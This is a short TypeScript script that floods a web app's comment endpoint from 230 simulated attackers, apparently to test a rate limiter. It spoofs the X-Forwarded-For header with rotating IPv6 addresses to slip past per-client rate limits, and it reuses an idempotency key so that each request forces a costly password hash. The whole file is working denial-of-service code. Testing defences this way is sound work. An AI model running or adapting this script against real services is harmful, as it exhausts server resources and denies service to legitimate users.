import { Agent, request } from 'node:http'

/** All attackers repeat this request: repeats escape the rate limit, but each costs a password hash. */
const [, , origin = '', body = ''] = process.argv
const agent = new Agent({ keepAlive: true })

const attackerCount = 230
let served = 0

/** One /48 with a /64 for each attacker. */
const home = (n: number): string => `2001:db8:1:${n.toString(16)}::1`
/** A /48 for each attacker. */
const homes = (n: number): string => `2001:db8:${(n + 2).toString(16)}::1`
const addressOf = process.argv[4] === 'homes' ? homes : home

const ask = (from: string): Promise<void> =>
  new Promise((done) => {
    const headers = { 'content-type': 'application/json', 'idempotency-key': 'flood', 'x-forwarded-for': from }
    const asked = request(new URL('/api/comment', origin), { method: 'POST', agent, headers }, (answer) => {
      served += answer.statusCode === 201 ? 1 : 0
      // From now on the queue is full of clients that have been served before, as in the rest of the attack.
      if (served === attackerCount) process.stdout.write('attacking\n')
      answer.resume().on('end', done)
    })
    asked.on('error', () => done())
    asked.end(body)
  })

const attack = async (n: number): Promise<never> => {
  for (;;) await ask(addressOf(n))
}

await Promise.all(Array.from({ length: attackerCount }, (_, n) => attack(n)))
